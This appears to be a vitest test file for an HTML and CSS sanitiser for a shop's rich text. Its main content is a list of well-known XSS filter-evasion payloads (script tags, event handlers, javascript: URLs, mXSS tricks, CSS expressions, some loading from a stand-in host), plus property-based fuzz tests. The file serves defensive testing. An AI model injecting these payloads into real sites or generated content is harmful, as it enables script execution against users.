import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { executableHtml, parsedHtml } from '../../tests/support/executable-markup';
import { sanitiseHtml, sanitiseStyle } from './sanitise-html';

/** Well-known XSS payloads (OWASP filter evasion cheat sheet and mXSS write-ups). */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="jav&Tab;ascript:alert(1)">click</a>',
  '<a href="javascript&colon;alert(1)">click</a>',
  '<a href="&#x6A;avascript:alert(1)">click</a>',
  '<a href="&amp;#106;avascript:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="\u0001javascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="data:image/svg+xml,<svg onload=alert(1)>">click</a>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<scr<script>ipt>alert(1)</script>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe/><img src=x onerror=alert(1)></iframe>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<div style="background-image: url(javascript:alert(\'XSS\'))">',
  '<div style="width: expression(alert(\'XSS\'));">',
  '<div style="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<div style="background:url(&quot;javascript:alert(1)&quot;)">',
  '<div style="behavior: url(xss.htc);">',
  '<div style="-moz-binding:url(http://xss.example/xss.xml#xss)">',
  '<div style="background:\\75\\72\\6c(javascript:alert(1))">',
  "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<a href="#" onclick="alert(1)">x</a>',
  '<a onmouseover=alert(1)>x</a>',
  '<a/href="javascript:alert(1)">x</a>',
  '<a href=javascript:alert(1)//>x</a>',
  '<p id="x" name="cookie">clobber</p>',
  '<x onclick=alert(1)>click</x>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<img src="x" onerror\u000c=alert(1)>',
  '<img src=x onerror="&#97;lert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
  '<div onpointerover=alert(1)>x</div>',
  '<a href="https://ok.example" style="position:fixed;top:0" target=_top>x</a>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</p><script>alert(1)</script>',
  '<img src="data:image/png;base64,iVBORw0KGgo=" onload=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<a href="javascript:alert(1)"',
];

const ALLOWED_TAGS = new Set(
  'a abbr article aside b blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li mark ol p pre q s section small span strong sub summary sup table tbody td tfoot th thead time tr u ul'.split(
    ' ',
  ),
);

/** Every problem a sanitised output could have, as a browser parses it; empty when it carries none. */
function problems(output: string): string[] {
  const found = executableHtml(output);
  for (const tag of output.matchAll(/<\/?([a-z0-9]+)/gi)) {
    const name = (tag[1] ?? '').toLowerCase();
    if (!ALLOWED_TAGS.has(name)) found.push(`element ${name}`);
  }
  return found;
}

describe('sanitiseHtml: XSS payloads', () => {
  it.each(PAYLOADS)('%s leaves nothing executable', (payload) => {
    const output = sanitiseHtml(payload);
    expect(problems(output)).toEqual([]);
    expect(output).not.toMatch(
      /<\s*(script|iframe|svg|math|object|embed|style|form|base|meta|link|template)/i,
    );
    // Sanitising is stable: the output sanitises to itself.
    expect(sanitiseHtml(output)).toBe(output);
  });

  it.each([
    ['<img src=x onerror=alert(1)>', '<img src="x">'],
    ['<svg/onload=alert(1)>', ''],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>', '<a>x</a>'],
    ['<scr<script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
    ['<iframe srcdoc="<script>alert(1)</script>"></iframe>after', 'after'],
    ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
    // htmlparser2 reads <noscript> as markup, not raw text as a browser does, so the whole rest is dropped.
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ''],
    ['<p style="color:red;background:url(javascript:alert(1))">a</p>', '<p>a</p>'],
    ['<form><p>in</p></form><p>out</p>', '<p>out</p>'],
    [
      '<a href="https://x.example" target=_blank rel=opener>x</a>',
      '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>',
    ],
    ['<a href="/ok/" target=_top>x</a>', '<a href="/ok/">x</a>'],
  ])('%s → %s', (input, expected) => {
    // Compared as parsed: sanitize-html writes void elements as '<img />', which parses the same.
    expect(parsedHtml(sanitiseHtml(input))).toBe(parsedHtml(expected));
  });
});

describe('sanitiseHtml: what it keeps', () => {
  it('keeps ordinary rich text', () => {
    const html =
      '<h2 class="title">Our story</h2><p>We print <strong>organic</strong> tees &amp; <em>more</em>.<br>Since 2010.</p>' +
      '<ul><li><a href="/collection/tees/">Tees</a></li><li><a href="mailto:hi@shop.example">Mail us</a></li></ul>' +
      '<img src="/media/a.webp" alt="A tee" width="300" loading="lazy"><table><tbody><tr><td colspan="2">x</td></tr></tbody></table>' +
      '<blockquote cite="https://source.example/">Quote</blockquote><p style="text-align: center; color: #333">Centred</p>';
    expect(parsedHtml(sanitiseHtml(html))).toBe(parsedHtml(html));
  });

  it('escapes stray markup characters in text and keeps entities', () => {
    expect(parsedHtml(sanitiseHtml('1 < 2 > 0 & a &amp; b &copy; < p>'))).toBe(
      parsedHtml('1 &lt; 2 &gt; 0 &amp; a &amp; b &copy; &lt; p&gt;'),
    );
  });

  it('closes what is left open and drops stray end tags', () => {
    expect(sanitiseHtml('<div><p>one<b>two')).toBe('<div><p>one<b>two</b></p></div>');
    // As the HTML standard reads them: a stray </p> is an empty paragraph, a stray </div> nothing.
    expect(sanitiseHtml('</div>text</p>')).toBe('text<p></p>');
    expect(sanitiseHtml('<div><b>x</div>y')).toBe('<div><b>x</b></div>y');
  });

  it('drops unknown elements but keeps their text', () => {
    expect(sanitiseHtml('<custom-el data-x="1">hello</custom-el> <font color=red>red</font>')).toBe(
      'hello red',
    );
  });

  it('drops ids and names (no DOM clobbering) and unknown attributes, keeps aria', () => {
    expect(sanitiseHtml('<p id="x" name="y" data-x="1" aria-label="Label" title="T">p</p>')).toBe(
      '<p aria-label="Label" title="T">p</p>',
    );
  });

  it('re-escapes attribute values', () => {
    expect(sanitiseHtml('<p title="a &quot;b&quot; <c> &amp; d">x</p>')).toBe(
      '<p title="a &quot;b&quot; &lt;c&gt; &amp; d">x</p>',
    );
    expect(sanitiseHtml('<a href="/search?a=1&amp;b=2">s</a>')).toBe('<a href="/search?a=1&amp;b=2">s</a>');
  });

  it('returns an empty string for non-strings and honours maxLength', () => {
    expect(sanitiseHtml(undefined)).toBe('');
    expect(sanitiseHtml(42)).toBe('');
    expect(sanitiseHtml('<p>abcdef</p>', { maxLength: 5 })).toBe('<p>ab</p>');
  });

  it('handles deep nesting without recursion', () => {
    const deep = `${'<div>'.repeat(5000)}x`;
    const output = sanitiseHtml(deep);
    expect(output.match(/<div>/g)).toHaveLength(64);
    expect(output.endsWith('</div>')).toBe(true);
  });
});

describe('sanitiseStyle', () => {
  it('keeps plain declarations', () => {
    expect(sanitiseStyle('color: red;  font-size:12px;')).toBe('color: red; font-size: 12px');
    expect(sanitiseStyle('font-family: "Lato", sans-serif')).toBe('font-family: "Lato", sans-serif');
  });

  it.each([
    'width: expression(alert(1))',
    'background: url(javascript:alert(1))',
    'background: URL ( "x" )',
    'behavior: url(x.htc)',
    '-moz-binding: url(x)',
    'color: red; @import "x"',
    'background: \\75rl(x)',
    'color: red /* */',
    'color<script>',
    'not a declaration',
    'background-image: image-set("x.png" 1x)',
  ])('drops %s', (style) => {
    expect(sanitiseStyle(style)).toBeNull();
  });
});

describe('sanitiseHtml: property', () => {
  const fragments = [
    '<',
    '>',
    '/',
    '"',
    "'",
    '=',
    ' ',
    '\t',
    '\n',
    '&#x09;',
    '&#106;',
    '&colon;',
    '&Tab;',
    '&amp;',
    'javascript:',
    'JaVaScRiPt:',
    'java',
    'script:',
    'vbscript:',
    'data:text/html,',
    'alert(1)',
    'onerror',
    'onload',
    'ONCLICK',
    'on',
    'error',
    'img',
    'svg',
    'script',
    'iframe',
    'style',
    'a',
    'p',
    'div',
    'math',
    'noscript',
    'textarea',
    'template',
    'href',
    'src',
    'srcdoc',
    'x',
    '<!--',
    '-->',
    '<!',
    '<?',
    '</',
    'url(',
    'expression(',
    '`',
    '\u0000',
  ];

  it('never outputs an on* attribute, a javascript: link or a disallowed element', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...fragments), { maxLength: 60 }), (parts) => {
        const output = sanitiseHtml(parts.join(''));
        const tags = output.match(/<[^>]*>/g) ?? [];
        return problems(output).length === 0 && tags.every((tag) => !/\son\w*[\s=>]/i.test(tag));
      }),
      { numRuns: 3000 },
    );
    // Each run parses the output with jsdom three times.
  }, 60_000);

  it('is idempotent', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...fragments), { maxLength: 40 }), (parts) => {
        const once = sanitiseHtml(parts.join(''));
        return sanitiseHtml(once) === once;
      }),
      { numRuns: 2000 },
    );
  });
});
